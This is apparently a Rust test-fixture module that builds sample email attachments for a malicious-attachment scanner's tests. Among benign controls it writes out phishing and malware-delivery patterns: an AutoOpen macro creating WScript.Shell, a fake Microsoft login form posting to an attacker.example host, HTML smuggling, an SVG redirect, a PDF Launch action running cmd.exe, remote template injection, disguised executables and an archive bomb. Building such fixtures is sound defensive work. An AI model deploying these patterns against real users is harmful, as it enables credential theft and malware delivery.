//! Files for the tests, made here so that what is in them can be read; nothing in them does harm. A case's message names
//! one as `{FILE name}` where its base64 belongs.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use base64::Engine;
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;

pub(crate) fn filled_in(message: &str) -> String {
    let mut out = String::new();
    for line in message.split_inclusive('\n') {
        match line.trim().strip_prefix("{FILE ").and_then(|l| l.strip_suffix('}')) {
            Some(name) => {
                let packed = base64::prelude::BASE64_STANDARD.encode(named(name));
                packed
                    .as_bytes()
                    .chunks(76)
                    .for_each(|l| out.push_str(&format!("{}\r\n", std::str::from_utf8(l).unwrap())));
            }
            None => out.push_str(line),
        }
    }
    out
}

pub(crate) fn program() -> Vec<u8> {
    [b"MZ\x90\0\x03\0".as_slice(), &[0; 200]].concat()
}

pub(crate) fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(files, SimpleFileOptions::default())
}

pub(crate) fn encrypted_zip(files: &[(&str, &[u8])], password: &str) -> Vec<u8> {
    zip_with(files, SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, password))
}

fn zip_with(files: &[(&str, &[u8])], options: zip::write::FileOptions<'_, '_, ()>) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, octets) in files {
        out.start_file(*name, options).unwrap();
        out.write_all(octets).unwrap();
    }
    out.finish().unwrap().into_inner()
}

pub(crate) fn seven_zip(name: &str, octets: &[u8]) -> Vec<u8> {
    let mut out = sevenz_rust2::ArchiveWriter::new(Cursor::new(Vec::new())).unwrap();
    out.push_archive_entry(sevenz_rust2::ArchiveEntry::new_file(name), Some(octets)).unwrap();
    out.finish().unwrap().into_inner()
}

pub(crate) fn gzip(octets: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(octets).unwrap();
    out.finish().unwrap()
}

pub(crate) fn tar(name: &str, octets: &[u8]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(octets.len() as u64);
    header.set_cksum();
    out.append_data(&mut header, name, octets).unwrap();
    out.into_inner().unwrap()
}

/// A macro project with one module; MS-OVBA §2.4.1 with literals alone.
pub(crate) fn vba_project(source: &str) -> Vec<u8> {
    let source = format!("Attribute VB_Name = \"ThisDocument\"\r\n{source}");
    let mut module = b"compiled code\x01".to_vec();
    for chunk in source.as_bytes().chunks(3_000) {
        let packed: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
        module.extend((0xb000 | (packed.len() as u16 - 1)).to_le_bytes());
        module.extend(packed);
    }
    compound(&[("/VBA", &[]), ("/VBA/ThisDocument", &module)])
}

/// Streams by their paths; a path without octets is a storage.
pub(crate) fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, octets) in streams {
        match octets.is_empty() {
            true => out.create_storage(path).unwrap(),
            false => out.create_stream(path).unwrap().write_all(octets).unwrap(),
        }
    }
    out.flush().unwrap();
    out.into_inner().into_inner()
}

/// A document with one more part.
pub(crate) fn document(name: &str, octets: &[u8]) -> Vec<u8> {
    let xml = b"<w:document><w:body><w:p><w:t>Minutes of the meeting</w:t></w:p></w:body></w:document>";
    zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", xml), (name, octets)])
}

fn related(kind: &str, target: &str) -> Vec<u8> {
    let schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let xml = format!(
        "<Relationships><Relationship Id=\"rId1\" Type=\"{schema}/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    );
    document("word/_rels/settings.xml.rels", xml.as_bytes())
}

pub(crate) fn pdf(objects: &str, text: &str) -> Vec<u8> {
    let page = format!("BT /F1 12 Tf ({text}) Tj ET");
    let packed = {
        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        out.write_all(page.as_bytes()).unwrap();
        out.finish().unwrap()
    };
    let mut out = format!(
        "%PDF-1.7\n1 0 obj <</Type/Page>> endobj\n{objects}\n4 0 obj <</Length {}/Filter/FlateDecode>> stream\n",
        packed.len()
    );
    out.push_str("");
    [out.as_bytes(), &packed, b"\nendstream endobj\n%%EOF"].concat()
}

pub(crate) fn code(text: &str) -> Vec<u8> {
    let code = qrcode::QrCode::new(text).unwrap();
    let (side, scale, quiet) = (code.width() as u32, 4, 4);
    let colors = code.to_colors();
    let pixels = (side + 2 * quiet) * scale;
    let picture = image::GrayImage::from_fn(pixels, pixels, |x, y| {
        let (x, y) = ((x / scale).wrapping_sub(quiet), (y / scale).wrapping_sub(quiet));
        let dark = x < side && y < side && colors[(y * side + x) as usize] == qrcode::Color::Dark;
        image::Luma([if dark { 0 } else { 255 }])
    });
    let mut out = Cursor::new(Vec::new());
    picture.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

pub(crate) fn shortcut(command: &str) -> Vec<u8> {
    let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [b"\x4c\0\0\0\x01\x14\x02\0".as_slice(), &[0; 68], &wide].concat()
}

const LONG_TEXT: &str =
    "Thank you for your order. This is the invoice for the goods delivered in November, as agreed. ";

fn named(name: &str) -> Vec<u8> {
    let page = |html: &str| html.as_bytes().to_vec();
    let uri = |to: &str| format!("2 0 obj <</Type/Annot/Subtype/Link/A<</S/URI/URI({to})>>>> endobj");
    let eicar = crate::detectors::eicar::test_file();
    match name {
        "zip-with-eicar" => zip(&[("readme.txt", b"hello"), ("deep/inner.zip", &zip(&[("a.com", eicar.as_bytes())]))]),
        "program" => program(),
        "zip-with-program" => zip(&[("invoice.exe", &program())]),
        "zip-with-script" => zip(&[("scan.js", b"new ActiveXObject('x')")]),
        "zip-of-web-page" => {
            zip(&[("site/index.html", b"<html><p>x</html>"), ("site/app.js", b"alert(1)"), ("site/app.css", b"p{}")])
        }
        "zip-of-papers" => zip(&[("invoice.pdf", &pdf("", &LONG_TEXT.repeat(10))), ("list.csv", b"a,b\r\n1,2\r\n")]),
        "zip-with-disguise" => zip(&[("invoice.pdf.exe", &program())]),
        "encrypted-zip" => encrypted_zip(&[("statement.csv", b"a,b\r\n1,2\r\n")], "Kestrel77"),
        "encrypted-zip-with-program" => encrypted_zip(&[("statement.scr", &program())], "Kestrel77"),
        "two-names-zip" => {
            let mut octets = zip(&[("invoice.pdf", b"%PDF-1.4 x")]);
            let at = memchr::memmem::find(&octets, b"invoice.pdf").unwrap();
            octets[at..at + 11].copy_from_slice(b"invoice.exe");
            octets
        }
        "shortcut" => shortcut("C:\\Windows\\System32\\cmd.exe /c start notepad"),
        "docm-dropper" => document(
            "word/vbaProject.bin",
            &vba_project("Sub AutoOpen()\r\nSet s = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n"),
        ),
        "docm-plain" => document(
            "word/vbaProject.bin",
            &vba_project("Sub FormatTable()\r\nSelection.Font.Bold = True\r\nEnd Sub\r\n"),
        ),
        "docx" => document("word/styles.xml", b"<w:styles/>"),
        "docx-template" => related("attachedTemplate", "https://cdn.attacker.example/x.dotm"),
        "docx-template-at-home" => related("attachedTemplate", "file:///C:\\Users\\pat\\Templates\\Letter.dotm"),
        "docx-link" => related("hyperlink", "https://www.partner.example/terms"),
        "page-login" => page(
            "<html><body><h1>Microsoft</h1><form action='https://collect.attacker.example/p.php'><input type=email><input type=password></form></body></html>",
        ),
        "page-packed" => {
            page(&format!("<html><script>document.write(atob('{}'))</script></html>", "PGgxPg".repeat(100)))
        }
        "page-search" => page(
            "<html><body><h1>Our catalogue</h1><form action='https://shop.partner.example/search'><input name=q></form></body></html>",
        ),
        "page-report" => page(
            "<html><body><h1>Weekly report</h1><table><tr><td>Sales</td><td>12</td></tr></table><a href='https://www.partner.example/'>more</a></body></html>",
        ),
        "page-smuggling" => page(&format!(
            "<html><p>Loading</p><script>var d=atob('{}');var u=new Uint8Array(d.length);var b=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.zip';a.click();</script></html>",
            "UEsDBA".repeat(100)
        )),
        "page-download" => {
            page("<html><p>Your file: <a href='https://files.partner.example/a.zip' download>a.zip</a></p></html>")
        }
        "svg-script" => page(
            "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='https://attacker.example'</script></svg>",
        ),
        "svg-chart" => page(&format!(
            "<svg xmlns='http://www.w3.org/2000/svg'><script>function zoom(e){{e.style.fill='red'}}</script>{}</svg>",
            "<g onclick='zoom(this)'><title>serve::handle (812 samples, 12.1 %)</title><text>serve::handle</text></g>"
                .repeat(20)
        )),
        "svg-link" => page(
            "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://other.example/x'><rect width='9' height='9'/></a></svg>",
        ),
        "svg-logo" => page("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>"),
        "pdf-launch" => pdf("2 0 obj <</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>> endobj", "x"),
        "pdf-form" => pdf("2 0 obj <</S/JavaScript/JS(AFNumber_Format\\(2\\))>> endobj", &LONG_TEXT.repeat(10)),
        "pdf-e-invoice" => pdf(
            "2 0 obj <</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/EF<</F 3 0 R>>>> endobj\n3 0 obj <</Type/EmbeddedFile/Length 8>> stream\n<rsm:x/>\nendstream endobj",
            &LONG_TEXT.repeat(10),
        ),
        "pdf-one-link" => pdf(&uri("https://docs.attacker.example/view"), "You have a new document. Open"),
        "pdf-own-link" => pdf(&uri("https://www.partner.example/offer"), "Our autumn offer"),
        "pdf-invoice" => pdf(&uri("https://pay.other.example/1"), &LONG_TEXT.repeat(10)),
        "code-for-recipient" => code("https://login.attacker.example/?u=Z3JhY2VAY29udG9zby5leGFtcGxl"),
        "code" => code("https://menu.other.example/today"),
        "code-ticket" => code("TICKET 4711-0815"),
        // RFC 5652 §5.1: SignedData, as every S/MIME signature begins
        "signature" => {
            [b"\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x82".as_slice(), &[7; 200]].concat()
        }
        "quine" => zip(&[(
            "a.zip",
            &zip(&[(
                "a.zip",
                &zip(&[(
                    "a.zip",
                    &zip(&[("a.zip", &zip(&[("a.zip", &zip(&[("a.zip", &zip(&[("x.txt", b"x")]))]))]))]),
                )]),
            )]),
        )]),
        "broken-zip" => zip(&[("invoice.pdf", b"%PDF-1.4 x")])[..60].to_vec(),
        other => panic!("no sample is called {other}"),
    }
}
